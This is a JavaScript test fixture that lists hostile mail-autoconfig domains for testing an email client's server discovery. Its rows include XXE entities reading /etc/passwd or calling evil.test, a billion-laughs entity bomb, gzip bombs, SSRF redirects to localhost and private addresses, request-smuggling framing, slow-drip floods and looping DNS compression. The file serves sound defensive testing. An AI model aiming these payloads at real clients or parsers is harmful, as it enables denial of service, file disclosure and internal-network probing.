// SPDX-License-Identifier: MPL-2.0
// Domains that lie about their servers: in their page for mail programs (https://autoconfig.DOMAIN/…) and in their DNS. One row is one lie, told by a domain of its
// own. Belongs here: pages and records. Does not belong here: who asks for them, and what must not come of it (servers/hostile_domain.test.mjs).
//   page     (socket, {domain, path, host}) answers a request, or a text or Buffer that is the whole answer
//   dns      ({name, type, question}, domain) answers a query, or undefined for the usual answer
//   finds    the lie is so small that the domain's good server may be found all the same

import { gzipSync } from 'node:zlib';

const million = 1024 * 1024;
const body = (text, headers = '') => {
  const bytes = Buffer.isBuffer(text) ? text : Buffer.from(text);
  return Buffer.concat([
    Buffer.from(`HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n${headers}Content-Length: ${bytes.length}\r\n\r\n`, 'latin1'),
    bytes,
  ]);
};
const server = ({ host, port = 993, socket = 'SSL', type = 'imap' }) =>
  `<incomingServer type="${type}"><hostname>${host}</hostname><port>${port}</port><socketType>${socket}</socketType><username>%EMAILADDRESS%</username><authentication>password-cleartext</authentication></incomingServer>`;
const xml = (servers, before = '<?xml version="1.0"?>\n', id = 'x') =>
  `${before}<clientConfig version="1.1"><emailProvider id="${id}"><domain>${id}</domain>${servers}</emailProvider></clientConfig>`;
const good = (domain) => xml(server({ host: `mail.${domain}` }));
const chunked = (text) => Buffer.from(`HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n${text}`, 'latin1');
const raw = (text) => Buffer.from(text, 'latin1');

async function flood(socket, piece) {
  for (let written = 0; written < 32 * million && !socket.destroyed && socket.writable; written += piece.length) {
    if (!socket.write(piece)) await new Promise((go) => socket.once('drain', go).once('close', go));
    else await new Promise((go) => setImmediate(go));
  }
}
function drip(socket, text, ms) {
  let at = 0;
  const timer = setInterval(() => (socket.destroyed ? clearInterval(timer) : socket.write(text[at++ % text.length])), ms);
  socket.once('close', () => clearInterval(timer));
}

/** name -> what the page is for its domain */
const framing = {
  'a length of 10^20': (d) => raw(`HTTP/1.1 200 OK\r\nContent-Length: 100000000000000000000\r\n\r\n${good(d)}`),
  'a negative length': (d) => raw(`HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n${good(d)}`),
  'a length that is longer than the page': (d) => raw(`HTTP/1.1 200 OK\r\nContent-Length: 9999\r\n\r\n${good(d)}`),
  'a length that cuts the page': (d) => raw(`HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n${good(d)}`),
  'two lengths': (d) => raw(`HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: ${good(d).length}\r\n\r\n${good(d)}`),
  'a length and chunks': (d) =>
    raw(
      `HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n${good(d).length.toString(16)}\r\n${good(d)}\r\n0\r\n\r\n`,
    ),
  'a chunk of 2^64 less one': (d) => chunked(`ffffffffffffffff\r\n${good(d)}\r\n0\r\n\r\n`),
  'a chunk of 2^31': (d) => chunked(`80000000\r\n${good(d)}\r\n0\r\n\r\n`),
  'a negative chunk': (d) => chunked(`-1\r\n${good(d)}\r\n0\r\n\r\n`),
  'a chunk that says 0x': (d) => chunked(`0x${good(d).length.toString(16)}\r\n${good(d)}\r\n0\r\n\r\n`),
  'a chunk that is longer than it says': (d) => chunked(`5\r\n${good(d)}\r\n0\r\n\r\n`),
  'a chunk without its end': (d) => chunked(`${good(d).length.toString(16)}\r\n${good(d)}0\r\n\r\n`),
  'a chunk with 60 KB of extension': (d) =>
    chunked(`${good(d).length.toString(16)};${'x'.repeat(60_000)}\r\n${good(d)}\r\n0\r\n\r\n`),
  'chunks of one octet without end': () => (socket) => (
    socket.write('HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n'),
    flood(socket, '1\r\nx\r\n'.repeat(5000))
  ),
  'empty chunk lines without end': () => (socket) => (
    socket.write('HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n'),
    flood(socket, '\r\n'.repeat(8000))
  ),
  'chunks in chunks': (d) => raw(`HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked, chunked\r\n\r\n${good(d)}`),
  'compressed chunks': (d) => raw(`HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n${good(d)}`),
  'a page compressed by gzip': (d) => body(gzipSync(good(d)), 'Content-Encoding: gzip\r\n'),
  'a compressed bomb': () => body(gzipSync(Buffer.alloc(50 * million, 0x20)).subarray(0, 60_000), 'Content-Encoding: gzip\r\n'),
  'a header without end': () => (socket) => (socket.write('HTTP/1.1 200 OK\r\nX: '), flood(socket, 'x'.repeat(16_384))),
  'headers without end': () => (socket) => (socket.write('HTTP/1.1 200 OK\r\n'), flood(socket, 'X-Y: z\r\n'.repeat(2000))),
  'NULs in the headers': (d) => raw(`HTTP/1.1 200 OK\r\nX: \0\0\r\nContent-\0Length: 3\r\n\r\n${good(d)}`),
  'no headers at all': (d) => raw(good(d)),
  'HTTP/2': () => Buffer.from([0, 0, 18, 4, 0, 0, 0, 0, 0, 0, 3, 0, 0, 0, 100]),
  'a status of 99999': (d) => raw(`HTTP/1.1 99999 OK\r\n\r\n${good(d)}`),
  'a status of -200': (d) => raw(`HTTP/1.1 -200 OK\r\n\r\n${good(d)}`),
  'no status': (d) => raw(`HTTP/1.1\r\n\r\n${good(d)}`),
  'a status of 100 for ever': () => (socket) => flood(socket, 'HTTP/1.1 100 Continue\r\n\r\n'.repeat(500)),
  '204 with a page': (d) => raw(`HTTP/1.1 204 No Content\r\nContent-Length: ${good(d).length}\r\n\r\n${good(d)}`),
  '404 with a good page': (d) => raw(`HTTP/1.1 404 Not Found\r\nContent-Length: ${good(d).length}\r\n\r\n${good(d)}`),
  '401 that wants a password': () =>
    raw('HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm="x"\r\nContent-Length: 0\r\n\r\n'),
  silence: () => () => {},
  'an octet now and then': () => (socket) => drip(socket, 'HTTP/1.1 200 OK\r\nX-Y: z\r\n', 400),
  'a page that never ends': (d) => (socket) => (
    socket.write(`HTTP/1.1 200 OK\r\n\r\n${good(d).slice(0, -20)}`),
    drip(socket, ' ', 400)
  ),
  'the end of the connection': () => (socket) => socket.destroy(),
  '10 MB': (d) => (socket) => (
    socket.write('HTTP/1.1 200 OK\r\n\r\n'),
    flood(socket, Buffer.concat([Buffer.from(good(d)), Buffer.alloc(65_536, 0x20)]))
  ),
  '10 MB with its length': () => body('x'.repeat(10 * million)),
  'what a mail server says': () => raw('* OK [CAPABILITY IMAP4rev1] ready\r\n'),
};

const moved = (location, status = 302) => raw(`HTTP/1.1 ${status} Moved\r\nLocation: ${location}\r\nContent-Length: 0\r\n\r\n`);
/** A good page everywhere but at the first place, which leads on: whoever follows finds it. */
const leads =
  (where) =>
  (d) =>
  (socket, { path, host, domain }) =>
    socket.end(host === `autoconfig.${d}` && path.startsWith('/mail/') ? moved(where(d)) : body(good(domain ?? d)));
const redirects = {
  'in a circle': (d) => () => moved(`https://autoconfig.${d}/mail/config-v1.1.xml`),
  'on and on': (d) => () => moved(`https://autoconfig.${d}/mail/${Math.random()}`),
  'to http': leads((d) => `http://autoconfig.${d}/x`),
  'to http on 443': leads((d) => `http://autoconfig.${d}:443/x`),
  'to port 8443': leads((d) => `https://autoconfig.${d}:8443/x`),
  'to port 25': leads((d) => `https://autoconfig.${d}:25/x`),
  'to port 65979, which is 443 in 16 bits': leads((d) => `https://autoconfig.${d}:65979/x`),
  'to another domain': leads(() => 'https://evil.test/x'),
  'to another domain that ends alike': leads((d) => `https://evil-${d}/x`),
  'to this computer': leads(() => 'https://127.0.0.1/x'),
  'to this computer, in another spelling': leads(() => 'https://2130706433/x'),
  'to this computer by IPv6': leads(() => 'https://[::1]/x'),
  'to a private address': leads(() => 'https://10.7.7.7/x'),
  'to a name that leads to a private address': leads((d) => `https://private.${d}/x`),
  'to a user of another domain': leads((d) => `https://autoconfig.${d}@evil.test/x`),
  'behind a backslash': leads((d) => `https://evil.test\\@autoconfig.${d}/x`),
  'without a scheme': leads(() => '//evil.test/x'),
  'to a file': leads(() => 'file:///etc/passwd'),
  'to a script': leads(() => 'javascript:alert(1)'),
  'to data': leads((d) => `data:text/xml,${encodeURIComponent(good(d))}`),
  'to a place with control characters': leads((d) => `https://autoconfig.${d}/x\x1b[31m\x01`),
  'to a place of 60 KB': leads((d) => `https://autoconfig.${d}/${'x'.repeat(60_000)}`),
  'to nowhere': leads(() => ''),
  'to an escaped name': leads((d) => `https://autoconfig%2e${d}/x`),
  'to a name in other letters': leads((d) => `https://\u0430utoconfig.${d}/x`),
  'to two places': (d) => () =>
    raw(`HTTP/1.1 302 Found\r\nLocation: https://evil.test/x\r\nLocation: https://autoconfig.${d}/mail/y\r\n\r\n`),
};

const entities = Array.from({ length: 12 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');
const documents = {
  'a billion laughs': (d) => xml(server({ host: '&l12;' }), `<!DOCTYPE x [<!ENTITY l0 "mail.${d}">${entities}]>`),
  'a file as an entity': () => xml(server({ host: '&f;' }), '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'),
  'a page as an entity': (d) => xml(server({ host: '&f;' }), `<!DOCTYPE x [<!ENTITY f SYSTEM "https://evil.test/${d}">]>`),
  'an entity of parameters': (d) =>
    xml(server({ host: `mail.${d}` }), '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.test/x"> %p;]>'),
  'a document type': (d) => xml(server({ host: `mail.${d}` }), '<!DOCTYPE clientConfig>'),
  'an entity that nobody declared': () => xml(server({ host: '&mail;' })),
  'a hundred levels': (d) => xml(`${'<a>'.repeat(100)}${'</a>'.repeat(100)}${server({ host: `mail.${d}` })}`),
  'ten thousand levels': () => '<a>'.repeat(10_000),
  '70 KB': (d) => good(d) + ' '.repeat(70_000),
  'a name of an element of 60 KB': () => `<${'x'.repeat(60_000)}/>`,
  'an attribute twice': (d) => good(d).replace('type="imap"', 'type="imap" type="pop3"'),
  'UTF-16 that is none': (d) => good(d).replace('?>', ' encoding="UTF-16"?>'),
  'an encoding that nobody knows': (d) => good(d).replace('?>', ' encoding="EBCDIC-CP-DK"?>'),
  'UTF-7': (d) => good(d).replace('?>', ' encoding="UTF-7"?>').replaceAll('<host', '+ADw-host'),
  'octets that are no UTF-8': (d) => raw(good(d).replace('<domain>', '<domain>\xff\xfe\xc0\xaf')),
  'a NUL': (d) => good(d).replace('<domain>', '<domain>\0'),
  'a NUL as a reference': (d) => good(d).replace('<domain>', '<domain>&#0;'),
  'no end': (d) => good(d).slice(0, -30),
  'two roots': (d) => good(d) + good(d),
  'another root': (d) => good(d).replaceAll('clientConfig', 'html'),
  'two providers, the wrong one first': (d) =>
    xml('', '', 'evil').replace('</clientConfig>', good(d).replace(/^[\s\S]*?<clientConfig[^>]*>/, '')),
  nothing: () => '',
  HTML: () => '<html><body><script>alert(1)</script></body></html>',
  JSON: (d) => JSON.stringify({ hostname: `mail.${d}`, port: 993 }),
};

/** Entries that must lead nowhere. */
const entries = {
  'the name with a line end': (d) => ({ host: `mail.${d}&#10;x` }),
  'the name with a tab inside': (d) => ({ host: `ma&#9;il.${d}` }),
  'a user before the name': (d) => ({ host: `alice@mail.${d}` }),
  'a port behind the name': (d) => ({ host: `mail.${d}:993` }),
  'a place behind the name': (d) => ({ host: `mail.${d}/x` }),
  'percent signs': (d) => ({ host: `mail%2e${d}` }),
  'a variable': () => ({ host: '%EMAILLOCALPART%.evil.test' }),
  'a variable twice': () => ({ host: 'mail.%EMAILDOMAIN%.%EMAILDOMAIN%' }),
  brackets: () => ({ host: '[203.0.113.2]' }),
  'an address': () => ({ host: '203.0.113.2' }),
  'an address in hexadecimal': () => ({ host: '0xcb007102' }),
  'this computer': () => ({ host: 'localhost' }),
  'this computer by number': () => ({ host: '127.0.0.1' }),
  'a private address': () => ({ host: '10.7.7.7' }),
  'a name that leads to a private address': (d) => ({ host: `private.${d}` }),
  'a name that leads to this computer': (d) => ({ host: `here.${d}` }),
  'a name with bidirectional characters': (d) => ({ host: `\u202email.${d}` }),
  'a name of 300 letters': (d) => ({
    host: `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.${'e'.repeat(63)}.${'f'.repeat(40)}.${d}`,
  }),
  'a name that begins with a dot': (d) => ({ host: `.mail.${d}` }),
  'an empty name': () => ({ host: '' }),
  'a script as name': () => ({ host: '&lt;script&gt;alert(1)&lt;/script&gt;' }),
  'port 0': (d) => ({ host: `mail.${d}`, port: 0 }),
  'port 22': (d) => ({ host: `mail.${d}`, port: 22 }),
  'port 25': (d) => ({ host: `mail.${d}`, port: 25 }),
  'port 443': (d) => ({ host: `mail.${d}`, port: 443 }),
  'port 9993': (d) => ({ host: `mail.${d}`, port: 9993 }),
  'port 66529, which is 993 in 16 bits': (d) => ({ host: `mail.${d}`, port: 66529 }),
  'port 4294968289, which is 993 in 32 bits': (d) => ({ host: `mail.${d}`, port: 4294968289 }),
  'port -993': (d) => ({ host: `mail.${d}`, port: -993 }),
  'port +993': (d) => ({ host: `mail.${d}`, port: '+993' }),
  'port 993.0': (d) => ({ host: `mail.${d}`, port: '993.0' }),
  'port 0x3e1': (d) => ({ host: `mail.${d}`, port: '0x3e1' }),
  'no encryption': (d) => ({ host: `mail.${d}`, port: 143, socket: 'plain' }),
  'an encryption that there is not': (d) => ({ host: `mail.${d}`, socket: 'SSLv2' }),
  'another protocol': (d) => ({ host: `mail.${d}`, type: 'exchange' }),
  'a server for sending among those for receiving': (d) => ({ host: `mail.${d}`, type: 'smtp' }),
};

const a = (...octets) => ({ type: 'A', data: Buffer.from(octets) });
const answers = (...records) => ({ records });
const srv = (target, port = 993, type = 'SRV') => answers({ type, data: [0, 1, port, target] });
const service = (make) => (query, d) => (query.name === `_imaps._tcp.${d}` && query.type === 'SRV' ? make(d, query) : undefined);
const number16 = (...values) => Buffer.from(values.flatMap((value) => [value >> 8, value & 255]));
/** A whole message behind its id, with these counts and this rest. */
const message = (query, { flags = 0x8180, counts = [1, 1, 0, 0], rest = Buffer.alloc(0), question = query.question }) =>
  Buffer.concat([number16(flags, ...counts), question, rest]);
const record = ({ type = 33, size, data, owner = [0xc0, 12], kind = 1 }) =>
  Buffer.concat([Buffer.from(owner), number16(type, kind, 0, 60, size ?? data.length), data]);
const wire = (name) =>
  Buffer.concat([
    ...name.split('.').map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label, 'latin1')])),
    Buffer.from([0]),
  ]);
const srvData = (target, port = 993) => Buffer.concat([number16(0, 1, port), Buffer.isBuffer(target) ? target : wire(target)]);

const records = {
  'an SRV to nowhere': service(() => srv('.')),
  'an SRV to port 0': service((d) => srv(`mail.${d}`, 0)),
  'an SRV to port 22': service((d) => srv(`mail.${d}`, 22)),
  'an SRV to port 25': service((d) => srv(`mail.${d}`, 25)),
  'an SRV to port 9993': service((d) => srv(`mail.${d}`, 9993)),
  'an SRV to this computer': service(() => srv('localhost')),
  'an SRV to an address': service(() => srv('203.0.113.2')),
  'an SRV to a private address': service((d) => srv(`private.${d}`)),
  'an SRV to a name that leads to this computer': service((d) => srv(`here.${d}`)),
  'an SRV to a name with control characters': service((d, query) =>
    message(query, { rest: record({ data: srvData(Buffer.concat([Buffer.from([5, 27, 91, 51, 49, 109]), wire(d)])) }) }),
  ),
  'an SRV to a name with a NUL': service((d, query) =>
    message(query, { rest: record({ data: srvData(Buffer.concat([Buffer.from([4, 109, 97, 0, 108]), wire(d)])) }) }),
  ),
  'an SRV to a name with a dot inside a label': service((d, query) =>
    message(query, { rest: record({ data: srvData(Buffer.concat([Buffer.from([4, 109, 46, 97, 108]), wire(d)])) }) }),
  ),
  'an SRV to somebody else': service(() => srv('mail.evil.test')),
  'an SRV of another service': service((d, query) =>
    message(query, { rest: record({ owner: wire(`_evil._tcp.${d}`), data: srvData(`mail.${d}`) }) }),
  ),
  'an SRV of another class': service((d, query) => message(query, { rest: record({ kind: 3, data: srvData(`mail.${d}`) }) })),
  'an SRV that is a text': service((d, query) => message(query, { rest: record({ type: 16, data: srvData(`mail.${d}`) }) })),
  'an SRV name that points to itself': service((d, query) =>
    message(query, {
      rest: record({ data: Buffer.concat([number16(0, 1, 993), Buffer.from([0xc0, 12 + query.question.length + 12 + 6])]) }),
    }),
  ),
  'an SRV name that points behind the message': service((d, query) =>
    message(query, { rest: record({ data: srvData(Buffer.from([0xff, 0xff])) }) }),
  ),
  'an owner that points to itself': service((d, query) =>
    message(query, { rest: record({ owner: [0xc0, 12 + query.question.length], data: srvData(`mail.${d}`) }) }),
  ),
  'two names that point to each other': service((d, query) => {
    const at = 12 + query.question.length;
    return message(query, { rest: record({ owner: [0xc0, at + 18], data: srvData(Buffer.from([0xc0, at])) }) });
  }),
  'data that says it is longer': service((d, query) =>
    message(query, { rest: record({ size: 60_000, data: srvData(`mail.${d}`) }) }),
  ),
  'data that says it is shorter': service((d, query) =>
    message(query, { rest: record({ size: 3, data: srvData(`mail.${d}`) }) }),
  ),
  'data that says it is empty': service((d, query) => message(query, { rest: record({ size: 0, data: Buffer.alloc(0) }) })),
  '65535 records that are not there': service((d, query) => message(query, { counts: [1, 65_535, 65_535, 65_535] })),
  '2000 records': service((d, query) =>
    message(query, { counts: [1, 2000, 0, 0], rest: Buffer.concat(Array(2000).fill(record({ data: srvData('x.evil.test') }))) }),
  ),
  'a question with another name': service((d, query) =>
    message(query, {
      question: Buffer.concat([wire('evil.test'), number16(33, 1)]),
      rest: record({ owner: wire(`_imaps._tcp.${d}`), data: srvData(`mail.${d}`) }),
    }),
  ),
  'a question instead of an answer': service((d, query) =>
    message(query, { flags: 0x0100, rest: record({ data: srvData(`mail.${d}`) }) }),
  ),
  'nothing behind the id': service(() => Buffer.alloc(0)),
  'one octet': service(() => Buffer.from([0x81])),
  '8 KB of 255': service(() => Buffer.alloc(8192, 0xff)),
  'an answer that is cut off': service(() => ({ truncated: true, records: [] })),
  'an alias of itself': (query, d) =>
    query.name.startsWith('_imap') ? answers({ type: 'CNAME', data: [`${query.name}`] }) : undefined,
  'aliases in a circle': (query, d) =>
    query.name.startsWith('_imap')
      ? answers({ type: 'CNAME', data: [`b.${d}`] }, { name: `b.${d}`, type: 'CNAME', data: [query.name] })
      : undefined,
  'aliases without end': (query, d) =>
    query.name.startsWith('_imap')
      ? answers(
          ...Array.from({ length: 60 }, (_, at) => ({
            name: at ? `c${at}.${d}` : query.name,
            type: 'CNAME',
            data: [`c${at + 1}.${d}`],
          })),
        )
      : undefined,
  'SERVFAIL for everything': () => ({ rcode: 'SERVFAIL' }),
  'REFUSED for everything': () => ({ rcode: 'REFUSED' }),
  silence: () => null,
  'silence about services only': (query) => (query.type === 'SRV' || query.type === 'MX' ? null : undefined),
  'an MX to nowhere': (query) => (query.type === 'MX' ? answers({ type: 'MX', data: [0, '.'] }) : undefined),
  'an MX of a provider in other letters': (query) =>
    query.type === 'MX' ? answers({ type: 'MX', data: [1, 'aspmx.l.g\xf6\xf6gle.com'] }) : undefined,
  'an MX below a provider that is none': (query) =>
    query.type === 'MX' ? answers({ type: 'MX', data: [1, 'aspmx.l.google.com.evil.test'] }) : undefined,
  '1500 MX': (query) =>
    query.type === 'MX'
      ? message(query, {
          counts: [1, 1500, 0, 0],
          rest: Buffer.concat(Array(1500).fill(record({ type: 15, data: Buffer.concat([number16(1), wire('mx.evil.test')]) }))),
        })
      : undefined,
  'an autoconfig server on this computer': (query, d) =>
    query.name === `autoconfig.${d}` && query.type === 'A' ? answers(a(127, 0, 0, 1)) : undefined,
  'an autoconfig server at a private address': (query, d) =>
    query.name === `autoconfig.${d}` && query.type === 'A' ? answers(a(10, 7, 7, 7)) : undefined,
  'an autoconfig server everywhere': (query, d) =>
    query.name === `autoconfig.${d}` && query.type === 'A'
      ? answers(a(0, 0, 0, 0), a(255, 255, 255, 255), a(224, 0, 0, 1), a(169, 254, 1, 1))
      : undefined,
  'a thousand addresses of the autoconfig server': (query, d) =>
    query.name === `autoconfig.${d}` && query.type === 'A'
      ? answers(...Array.from({ length: 1000 }, (_, at) => a(203, 0, 113, 20 + (at % 200))))
      : undefined,
};

const rows = (kind, table, make) =>
  Object.entries(table).map(([name, value]) => ({ name: `${kind}: ${name}`, ...make(value, name) }));

/** Every lie. A domain without `page` has none; one without `dns` tells the usual addresses only. */
export const domainLies = [
  ...rows('an answer with', framing, (page) => ({ page })),
  ...rows('a redirect', redirects, (page) => ({ page })),
  ...rows('a page with', documents, (page) => ({ page: (d) => body(page(d)) })),
  ...rows('a server with', entries, (entry) => ({ page: (d) => body(xml(server(entry(d)))) })),
  ...rows('the DNS tells', records, (dns) => ({ dns, page: null })),
  {
    name: 'a page with two hundred servers of others before the good one',
    page: (d) =>
      body(xml(Array.from({ length: 200 }, (_, at) => server({ host: `x${at}.${d}` })).join('') + server({ host: `mail.${d}` }))),
    finds: true,
  },
  {
    name: 'a page with five thousand attributes',
    page: (d) => body(good(d).replace('<domain>', `<domain ${Array.from({ length: 5000 }, (_, at) => `a${at}="1"`).join(' ')}>`)),
    finds: true,
  },
  {
    name: 'a page with a comment inside the name',
    page: (d) => body(xml(server({ host: `mail<!-- x -->.${d}` }))),
    finds: true,
  },
  { name: 'a page with the name in CDATA', page: (d) => body(xml(server({ host: `<![CDATA[mail.${d}]]>` }))), finds: true },
  { name: 'a page with a name in capitals', page: (d) => body(xml(server({ host: `MAIL.${d.toUpperCase()}` }))), finds: true },
  {
    name: 'a page with blanks around everything',
    page: (d) => body(xml(server({ host: ` \n mail.${d} \t`, port: ' 993 ' }))),
    finds: true,
  },
  {
    name: 'a page with two names in one server',
    page: (d) => body(xml(server({ host: `evil.test</hostname><hostname>mail.${d}` }))),
    finds: true,
  },
];
/** The page that an honest domain has: what shows that the others would have been read. */
export const goodPage = (domain) => body(good(domain));
